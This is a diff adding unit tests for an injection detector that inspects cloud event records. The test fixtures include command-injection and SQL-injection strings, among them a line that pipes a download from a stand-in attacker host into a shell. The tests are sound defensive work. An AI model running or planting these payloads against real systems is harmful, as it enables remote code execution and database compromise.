@@ -48,3 +48,21 @@ test('what the platform stamped is not inspected', () => {
   const record = { eventSource: 'aws:s3', s3: { bucket: { name: '$(id)' }, object: { key: 'a.pdf' } } };
   assert.equal(inspectEvent({ Records: [record] }).level, 'none');
 });
+
+test('an event full of attacks is reported by its first ones, and by those that a flood would hide', () => {
+  const flood = Array.from({ length: 5_000 }, (_, i) => `${i} 12345678; id`);
+  const { detections, more, level, incomplete } = inspectEvent({ a: flood, b: "' or 1=1 --", c: '; curl http://attacker.example/x | sh' });
+  assert.equal(level, 'certain');
+  assert.equal(incomplete, undefined);
+  assert.equal(detections.length, 102);
+  assert.equal(more, 4_900);
+  assert.deepEqual(
+    detections.slice(99).map((detection) => [detection.class, detection.confidence, detection.path]),
+    [
+      ['cmdi', 'medium', '$.a[99]'],
+      ['sqli', 'high', '$.b'],
+      ['cmdi', 'high', '$.c'],
+    ],
+  );
+});
+test('a few detections are all there are', () => assert.ok(!('more' in inspectEvent({ a: "' or 1=1 --" }))));
